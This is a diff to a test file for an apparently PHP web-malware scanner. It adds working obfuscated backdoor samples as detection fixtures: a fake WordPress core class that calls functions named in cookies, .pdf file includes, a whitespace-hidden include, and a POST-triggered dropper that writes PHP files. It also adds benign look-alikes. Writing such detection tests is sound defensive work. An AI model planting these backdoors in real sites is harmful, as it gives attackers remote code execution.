@@ -238,6 +238,64 @@ function send_one($mail, $to, $letter, $link) {
 }
 `,
   ],
+  [
+    'a fake core class keyed by the cookies holding their own type and size, calling functions their elements name (H66)',
+    '/srv/www/wp-includes/class-wp-info.php',
+    `<?php
+class _Wp_Info {
+  const SEED = "\\x01\\x02\\x03\\x04\\x05\\x14_COOKIE";
+  public function __construct() { $this->run(self::SEED); }
+  private function run($d) {
+    $p = $GLOBALS[substr($d, 6)];
+    if (count($p) !== ord($d[5]) || !in_array(gettype($p) . count($p), $p)) return '';
+    $f = array();
+    for ($i = 0; $i < 5; $i++) $f[$i] = $p[ord($d[$i])];
+    $f[1] .= $f[2];
+    $g = $f[1]($f[3]);
+    return $g($f[0], $f[4]);
+  }
+}
+new _Wp_Info;
+`,
+  ],
+  [
+    'wp-blog-header.php given a block that requires files named .pdf (H66)',
+    '/srv/www/wp-blog-header.php',
+    `<?php
+if (file_exists(dirname(__FILE__) . '/notes.pdf')) {
+  require_once 'notes.pdf';
+  @require_once 'extra.pdf';
+}
+?>
+<?php
+if ( ! isset( $wp_did_header ) ) { $wp_did_header = true; require_once __DIR__ . '/wp-load.php'; wp(); require_once ABSPATH . WPINC . '/template-loader.php'; }
+`,
+  ],
+  [
+    'the escaped path included behind an arithmetic condition, newlines after (H66)',
+    '/srv/www/app/Exceptions/index.php',
+    `<?php
+/*a1b2c*/
+
+$q7 = "/home/u/public_html/node_modules/es\\x63ape/.8\\x63\\x6316ed.css"; if (119 * 24){ @include_once /* k */ ($q7); }
+
+/*a1b2c*/
+` + '\n'.repeat(300),
+  ],
+  [
+    'the POST-key dropper with its length kept in a variable, split into functions (H66)',
+    '/srv/www/scss/qzxw.php',
+    `<?php
+function dec($v) { return str_split(rawurldecode(str_rot13($v))); }
+function stretch($k, $v) { return array_slice(str_split(str_repeat($k, (count($v) / 16) + 1)), 0, count($v)); }
+function mix($a, $i, $k) { $g = "1b2c3d4e-5f6a-7b8c-9d0e-1f2a3b4c5d6e"; return $a ^ $g[$i % strlen($g)] ^ $k; }
+foreach ($_POST as $k => $v) { $n = strlen($k); if ($n == 16) {
+  $v = dec($v); $k = stretch($k, $v);
+  $v = @unserialize(implode('', array_map('mix', array_values($v), array_keys($v), array_values($k))));
+  if (is_array($v)) { $to = __DIR__ . '/' . substr(md5(time()), 0, 8) . '.php'; @file_put_contents($to, reset($v)); echo $to; exit; }
+} }
+`,
+  ],
 ];
 
 /** What must be flagged at least (suspicious or malicious): evidence a benign site can also show, red team S46R. */
@@ -393,6 +451,26 @@ system('logger ' . escapeshellarg("seen $\\x5fGET[cmd] from $ip"));
 `,
   ],
   [
+    'a page printing its terms kept as text, and a manual offered as a PDF download',
+    '/srv/www/terms.php',
+    `<?php
+include 'header.php';
+echo '<pre>'; readfile(__DIR__ . '/terms.txt'); echo '</pre>';
+echo '<a href="manual.pdf">Manual (PDF)</a>';
+if (isset($_GET['dl'])) { header('Content-Type: application/pdf'); readfile(__DIR__ . '/manual.pdf'); exit; }
+include 'footer.php';
+`,
+  ],
+  [
+    'a library checking that an options array holds a value of its own making',
+    '/srv/www/lib/opts.php',
+    `<?php
+function check(array $o) { return in_array('array' . count($o), ['array0', 'array1'], true); }
+$handlers = [fn ($x) => trim($x), 'strtolower'];
+echo $handlers[1]('ABC');
+`,
+  ],
+  [
     'a malware cleaner listing the WP-VCD marker to take it out of posts',
     '/srv/www/wp-content/plugins/cleaner/clean.php',
     `<?php
@@ -425,7 +503,7 @@ describe('scan: session 46 samples, the misses written again', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every page', () => assert.equal(PAGES.length, 14));
+  it('ran every page', () => assert.equal(PAGES.length, 18));
   it('ran every page to be flagged', () => assert.equal(FLAGGED.length, 2));
   for (const [name, path, src] of FLAGGED) {
     it(`flagged: ${name}`, () => {
@@ -439,7 +517,7 @@ describe('scan: session 46 samples, the misses written again', () => {
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 13));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 15));
 });
 
 // The escapes of a double-quoted literal that interpolates are read (php-strings.ts, unescapeInterpolating) only where that
